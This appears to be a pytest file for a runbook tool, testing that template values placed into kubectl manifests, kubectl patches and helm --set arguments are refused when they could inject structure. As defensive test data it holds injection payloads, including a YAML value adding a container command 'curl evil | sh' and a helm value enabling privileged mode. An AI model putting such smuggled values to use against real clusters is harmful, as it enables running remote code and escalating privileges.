"""A value in a manifest or patch kubectl applies stays a plain word: it cannot add keys.

`kubectl apply -f - <<EOF` with `image: {{ image }}` reached kubectl with any value: a line break and
`command: [sh, -c, "curl evil | sh"]` after the image added a command to the container, run in the cluster; in
`kubectl patch -p "{\\"spec\\":{\\"replicas\\":{{ n }}}}"` a value `1,"template":{...}` did the same through JSON. The
shell kept the value one literal word; kubectl read it as structure. Now a value there passes as a plain word
(an image reference `registry.example/api@sha256:…` too), else it is refused before anything runs.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from helpers_runbook import cli_main

from runbook_tui.runbook.templating import TemplateError, render_command

MANIFEST = "kubectl apply -f - <<EOF\napiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: api\n      image: {{ x }}\nEOF"
TEMPLATES = [
    MANIFEST,
    MANIFEST.replace("apply -f -", "--context prod -n pay apply --filename=-"),
    MANIFEST.replace("kubectl apply -f -", "oc create -f /dev/stdin"),
    MANIFEST.replace("kubectl apply -f -", "ssh bastion kubectl apply -f -"),
    "printf '%s\\n' \"image: {{ x }}\" | kubectl replace -f -",
    'kubectl -n pay patch deploy api -p "{\\"spec\\":{\\"replicas\\":{{ x }}}}"',
    'kubectl patch deploy api --type=json --patch="[{\\"op\\":\\"replace\\",\\"path\\":\\"/spec/replicas\\",\\"value\\":{{ x }}}]"',
]
HOSTILE = ['nginx\n      command: [sh, -c, "curl evil | sh"]', '1,"template":{"spec":{}}', "a b", "{x: 1}"]


@pytest.mark.parametrize("template", TEMPLATES)
def test_a_value_in_what_kubectl_applies_is_a_plain_word(template: str) -> None:
    for value in HOSTILE:
        with pytest.raises(TemplateError, match=r"could change its structure"):
            render_command(template, {"x": value})
    for plain in ("3", "registry.example/payments-api@sha256:0a1b2c", "nginx:1.25"):
        assert [v for _, v in render_command(template, {"x": plain}).env] == [plain]


def test_kubectl_reading_data_elsewhere_takes_any_value() -> None:
    for template in ('kubectl -n pay annotate deploy api note="{{ x }}"', "kubectl apply -f {{ x }}", "cat <<EOF\nimage: {{ x }}\nEOF"):
        assert [v for _, v in render_command(template, {"x": "a b: c"}).env] == ["a b: c"], template


RUNBOOK = """\
runbook: 1
id: manifest
title: T
params:
  image: {type: string}
sections:
  - id: main
    steps:
      - id: apply
        run: |
          kubectl apply --dry-run=client -o yaml -f - <<EOF
          apiVersion: v1
          kind: Pod
          metadata: {name: api}
          spec:
            containers:
              - name: api
                image: {{ image }}
          EOF
"""


def test_the_refusal_names_the_value_and_nothing_runs(write_runbook: Callable[..., Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = write_runbook(RUNBOOK)
    value = 'nginx\n        command: [sh, -c, "touch pwned"]'
    assert cli_main(["exec", str(path), "-p", f"image={value}", "--solo", "t", "--journal", str(tmp_path / "j.jsonl")]) == 2
    err = capsys.readouterr().err
    assert f"{path}:18:24: a value in the manifest kubectl reads on stdin could change its structure" in err, err


@pytest.mark.parametrize(
    "template",
    [
        "helm upgrade api ./chart --set image.tag={{ x }}",
        'helm install api ./chart --set "image.tag={{ x }},replicas=2"',
        "helm upgrade --install api ./chart --set-string=podLabels.v={{ x }}",
        "helm template api ./chart --set-json 'a=1' --set-string b={{ x }}",
    ],
)
def test_a_value_helm_set_reads_is_a_plain_word(template: str) -> None:
    """helm splits `--set` at commas and reads `{a,b}`, `[0]` and `\\` as structure: `image.tag={{ x }}` with x =
    `1,securityContext.privileged=true` set a second key. Only a plain word passes there (`1.25.3`, an image digest)."""
    for value in ("1,securityContext.privileged=true", "{a,b}", "a\\,b"):
        with pytest.raises(TemplateError, match=r"could change its structure"):
            render_command(template, {"x": value})
    assert [v for _, v in render_command(template, {"x": "1.25.3"}).env] == ["1.25.3"]
